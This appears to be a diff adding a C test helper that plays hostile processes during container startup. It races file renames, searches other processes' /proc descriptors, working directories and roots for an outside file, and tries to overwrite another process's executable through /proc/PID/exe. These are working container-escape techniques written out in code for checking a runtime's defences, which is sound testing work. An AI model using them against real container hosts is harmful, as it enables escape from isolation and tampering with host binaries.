@@ -1,0 +1,141 @@
+/*
+ * What hostile parties do while a container starts or is joined:
+ *
+ *   exchange A B    swaps two names, over and over, until its parent is gone
+ *   search FILE     looks for FILE behind every descriptor, directory and root
+ *                   of the other processes in /proc
+ *   overwrite FROM  takes hold of the program of another process that is not
+ *                   FROM's, and writes to it once it no longer runs
+ *
+ * The last two say "ready", then what they reached, and otherwise go on until
+ * there is a file /stop.
+ */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#define EXCHANGE 2 /* RENAME_EXCHANGE of linux/fs.h */
+
+enum { DESCRIPTORS = 24 };
+
+static int exchange(char **words)
+{
+    prctl(PR_SET_PDEATHSIG, SIGKILL);
+    puts("ready");
+    fflush(stdout);
+    for (;;) {
+        if (syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1],
+                    EXCHANGE) < 0) {
+            perror("exchange");
+            return 1;
+        }
+    }
+}
+
+static bool can_read(const char *path)
+{
+    int fd = open(path, O_RDONLY | O_NONBLOCK);
+
+    if (fd < 0)
+        return false;
+    printf("reached %s\n", path);
+    close(fd);
+    return true;
+}
+
+/* Tries every way from /proc/PID to the file. */
+static bool search_process(const char *pid, char **words)
+{
+    static const char *const ways[] = {"cwd", "root"};
+    char path[4096];
+
+    for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
+        snprintf(path, sizeof(path), "/proc/%s/%s/%s", pid, ways[i], words[0]);
+        if (can_read(path))
+            return true;
+    }
+    for (int fd = 0; fd < DESCRIPTORS; fd++) {
+        snprintf(path, sizeof(path), "/proc/%s/fd/%d/%s", pid, fd, words[0]);
+        if (can_read(path))
+            return true;
+    }
+    return false;
+}
+
+/* Is it another program than the one that is known to be the container's? */
+static bool is_foreign(int program, const char *known)
+{
+    struct stat mine, its;
+
+    return fstat(program, &its) == 0 && stat(known, &mine) == 0 &&
+           (its.st_dev != mine.st_dev || its.st_ino != mine.st_ino);
+}
+
+static bool overwrite_process(const char *pid, char **words)
+{
+    char path[64];
+    int program, writable;
+
+    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+    program = open(path, O_PATH);
+    if (program < 0)
+        return false;
+    if (!is_foreign(program, words[0])) {
+        close(program);
+        return false;
+    }
+    puts("holding");
+    fflush(stdout);
+    snprintf(path, sizeof(path), "/proc/self/fd/%d", program);
+    do {
+        writable = open(path, O_WRONLY);
+    } while (writable < 0 && errno == ETXTBSY && access("/stop", F_OK) < 0);
+    if (writable >= 0 && write(writable, "overwritten", 11) == 11)
+        puts("overwritten");
+    else
+        printf("refused: %s\n", strerror(errno));
+    return true;
+}
+
+static int watch(bool (*attack)(const char *pid, char **words), char **words)
+{
+    const pid_t self = getpid();
+
+    puts("ready");
+    fflush(stdout);
+    while (access("/stop", F_OK) < 0) {
+        DIR *proc = opendir("/proc");
+        struct dirent *entry;
+
+        while (proc != NULL && (entry = readdir(proc)) != NULL) {
+            pid_t pid = atoi(entry->d_name);
+
+            if (pid > 0 && pid != self && attack(entry->d_name, words))
+                return 0;
+        }
+        closedir(proc);
+    }
+    puts("nothing");
+    return 0;
+}
+
+int main(int argc, char **argv)
+{
+    if (argc == 4 && strcmp(argv[1], "exchange") == 0)
+        return exchange(argv + 2);
+    if (argc == 3 && strcmp(argv[1], "search") == 0)
+        return watch(search_process, argv + 2);
+    if (argc == 3 && strcmp(argv[1], "overwrite") == 0)
+        return watch(overwrite_process, argv + 2);
+    fputs("intruder: see its source\n", stderr);
+    return 99;
+}
